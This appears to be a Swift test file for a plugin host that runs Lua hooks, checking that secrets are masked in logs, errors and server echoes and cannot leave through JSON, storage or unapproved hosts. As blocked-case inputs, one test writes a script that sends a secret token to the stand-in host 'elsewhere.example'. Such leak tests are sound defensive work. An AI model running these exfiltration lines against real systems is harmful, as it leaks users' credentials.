import ContentModel
import Foundation
import HookHost
import SyncEngine
import Testing

@Suite struct SecretTests {
    private static let secrets = ["webhook": "s3cr3t-token-value", "short": "abc"]

    private func host(_ fixture: HookFixture, allowing hosts: [String] = []) async throws -> HookHost {
        var services = fixture.services()
        services.secrets = SecretTests.secrets
        let configuration = HookHostConfiguration(config: try JSONDocument(validating: "{}"), allowedHosts: hosts)
        let host = try HookHost(
            folder: fixture.hooks, configuration: configuration, services: services, workers: HookFixture.workers)
        await host.start()
        return host
    }

    private func observe(
        _ statements: String, _ fixture: HookFixture, allowing hosts: [String] = []
    ) async throws {
        try fixture.write(
            "a.lua",
            """
            app.on('sync.push.finished', function(target, ctx)
              local s = app.secret('webhook')
            \(statements)
            end, { name = 'x' })
            """)
        try await host(fixture, allowing: hosts).observe(.pushFinished)
    }

    @Test func logsShowStars() async throws {
        let fixture = try HookFixture()
        try await observe(
            """
            app.log(s)
            app.log("token " .. tostring(s))
            app.log("x", { context = { key = s, list = { "Bearer " .. s } } })
            """, fixture)
        let records = fixture.log.records
        #expect(records.map(\.message) == ["***", "token ***", "x"])
        #expect(records.last?.context == #"{"key":"***","list":["***"]}"#)
    }

    @Test func aSecretGoesIntoTheAddressTheHeadersAndTheBody() async throws {
        let server = try LoopbackServer()
        let fixture = try HookFixture()
        try await observe(
            """
            app.http.post("http://127.0.0.1:\(server.port)/" .. s, {
              headers = { authorization = "Bearer " .. s }, body = "key=" .. s,
            })
            """, fixture, allowing: ["127.0.0.1:\(server.port)"])
        let request = try #require(server.received.first)
        #expect(request.contains("POST /s3cr3t-token-value "))
        #expect(request.lowercased().contains("authorization: bearer s3cr3t-token-value"))
        #expect(request.hasSuffix("key=s3cr3t-token-value"))
    }

    /// Every way in which a script might get a secret out, as far as the host has a say in it.
    @Test(arguments: [
        ("error('failed with ' .. tostring(s))", "failed with ***"),
        ("error(s)", "(error object is a userdata)"),
        ("app.http.get('http://elsewhere.example/' .. s)", "elsewhere.example"),
        ("app.http.get(s)", "the URL must begin with http:// or https://"),
        ("app.http.post(target.uri, { json = { key = s } })", "a secret cannot be written into JSON"),
        ("app.http.request({ url = target.uri, method = s })", "the option 'method' cannot be a secret"),
        ("app.storage.save('a', { key = s })", "a secret cannot be written into JSON"),
        ("app.log('x', { channel = s })", "the option 'channel' cannot be a secret"),
        ("app.json.encode({ key = s })", "a secret cannot be written into JSON, at $.key"),
        ("return s:byte(1)", "a secret has no fields"),
        ("return s < 't'", "cannot be compared by order"),
        ("app.secret('webhok')", "there is no secret 'webhok'. Did you mean 'webhook'?"),
        ("app.secret()", "the first argument must be the name of a secret"),
    ])
    func nothingElseShowsOrTakesIt(statement: String, words: String) async throws {
        let fixture = try HookFixture()
        let error = try await failure { try await observe(statement, fixture) }
        #expect(error.message.contains(words), "\(error.message)")
        #expect(!error.message.contains("s3cr3t"))
        #expect(fixture.log.messages.allSatisfy { !$0.contains("s3cr3t") })
    }

    /// A server may send back what it got; the answer is text that a script can read.
    @Test func whatComesBackFromElsewhereIsTakenOutOfLogsAndErrors() async throws {
        let server = try LoopbackServer(type: "text/plain", body: "you sent s3cr3t-token-value")
        let fixture = try HookFixture()
        let error = try await failure {
            try await observe(
                """
                local answer = app.http.get("http://127.0.0.1:\(server.port)/")
                app.log(answer.body)
                error(answer.body)
                """, fixture, allowing: ["127.0.0.1:\(server.port)"])
        }
        #expect(fixture.log.messages.first == "you sent ***")
        #expect(error.message.contains("you sent ***") && !error.message.contains("s3cr3t"))
    }
}
